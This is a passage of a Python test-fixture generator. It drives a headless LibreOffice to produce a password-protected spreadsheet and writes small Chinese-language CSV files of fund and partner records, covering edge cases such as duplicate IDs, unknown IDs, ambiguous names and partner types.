    _uno = os.path.join(tempfile.mkdtemp(), "save_with_password.py")
    with open(_uno, "w") as f:
        f.write('''import os, subprocess, sys, time
sys.path.append("/usr/lib/python3/dist-packages"); sys.path.append("/usr/lib/libreoffice/program")
import uno
from com.sun.star.beans import PropertyValue
def pv(n, v):
    p = PropertyValue(); p.Name = n; p.Value = v; return p
proc = subprocess.Popen(["soffice", "--headless", "--invisible", "--norestore", "--accept=socket,host=localhost,port=2099;urp;"])
for _ in range(60):
    try:
        local = uno.getComponentContext()
        ctx = local.ServiceManager.createInstanceWithContext("com.sun.star.bridge.UnoUrlResolver", local).resolve(
            "uno:socket,host=localhost,port=2099;urp;StarOffice.ComponentContext")
        break
    except Exception:
        time.sleep(1)
desktop = ctx.ServiceManager.createInstanceWithContext("com.sun.star.frame.Desktop", ctx)
doc = desktop.loadComponentFromURL(uno.systemPathToFileUrl(sys.argv[1]), "_blank", 0, (pv("Hidden", True),))
doc.storeToURL(uno.systemPathToFileUrl(sys.argv[2]), (pv("FilterName", "MS Excel 97"), pv("Password", "secret")))
doc.close(True)
try:
    desktop.terminate()
except Exception:
    pass
proc.wait(timeout=60)
''')
    subprocess.run(["python3", _uno, os.path.join(HERE, "sheet-good.xlsx"), os.path.join(HERE, "sheet-password.xls")], check=True,
                   capture_output=True, timeout=300)

# Two tables (FromFilings(funds, partners)): funds F1 深圳, F2 上海 (no partner row names it), F1 again (duplicate_fund),
# F3 and F4 sharing a name; partner rows by id, by the name with half-width brackets and spaces, an unknown id F9
# (fund_not_in_fund_table), the shared name (ambiguous_fund), and F3 by id. Rows read 5 + 5 = used 3 + rejected 5 +
# fund rows joined 2; capital 100 + 50 + 1 万元.
write("join-funds.csv", text([
    "基金编号,基金名称,注册地,备案时间",
    "F1,甲创业投资合伙企业（有限合伙）,深圳市,2020-01-01",
    "F2,乙基金,上海市,2021-01-01",
    "F1,甲重复,深圳市,2020-01-01",
    "F3,同名基金,北京市,2022-01-01",
    "F4,同名基金,杭州市,2022-01-01",
]).encode())
write("join-partners.csv", text([
    "基金编号,基金名称,合伙人名称,所在地,认缴出资额（万元）",
    "F1,,张三,北京市海淀区,100",
    ",甲创业投资 合伙企业 (有限合伙),李四公司,广州市,50",
    "F9,,王五公司,南京市,10",
    ",同名基金,赵六公司,成都市,5",
    "F3,,孙七公司,武汉市,1",
]).encode())
# 名称 could be the fund's or the partner's name: refused, naming both; --column fund_name=名称 settles it.
write("ambiguous-header.csv", text(["名称,注册地,所在地,认缴出资额（万元）", "甲基金,深圳市,北京市,10"]).encode())
# Registry partner kinds with no place and no code: natural persons (自然人股东, 自然人) -> partner_without_place;
# organisations (企业法人, 有限合伙企业, 法人股东) -> missing_field; 有限合伙人 (a role) -> partner_without_place.
write("registry-kinds.csv", text([
    "基金编号,注册地,股东名称,股东类型,股东所在地,认缴出资额（万元）",
    "F1,深圳市,甲公司,企业法人,北京市,10",
    "F1,深圳市,张三,自然人股东,,1",
    "F1,深圳市,李四,自然人,,1",
    "F1,深圳市,乙公司,企业法人,,1",
    "F1,深圳市,丙合伙,有限合伙企业,,1",
    "F1,深圳市,丁公司,法人股东,,1",
    "F1,深圳市,王五,有限合伙人,,1",
]).encode())
